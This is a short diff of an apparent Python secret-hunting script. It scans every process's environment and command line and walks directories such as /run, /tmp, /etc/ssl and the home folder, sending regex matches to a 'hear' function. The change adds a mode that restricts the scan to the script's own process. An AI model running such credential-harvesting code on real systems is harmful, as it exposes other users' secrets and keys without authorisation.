@@ -7,7 +7,7 @@ from trick import *
 import re
 
 found = []
-for pid in filter(str.isdigit, os.listdir("/proc")):
+for pid in [str(os.getpid())] if BARE else filter(str.isdigit, os.listdir("/proc")):
     for name in ("environ", "cmdline"):
         try:
             with open(f"/proc/{pid}/{name}", "rb") as f:
@@ -31,7 +31,7 @@ for pid in filter(str.isdigit, os.listdir("/proc")):
                     hear(hit.group())
     except OSError:
         pass
-for top in ("/run/brig", "/run", "/tmp", "/etc/ssl", "/etc/brig", os.environ.get("HOME", "/root")):
+for top in () if BARE else ("/run/brig", "/run", "/tmp", "/etc/ssl", "/etc/brig", os.environ.get("HOME", "/root")):
     for folder, _, names in os.walk(top):
         for name in names[:200]:
             path = os.path.join(folder, name)
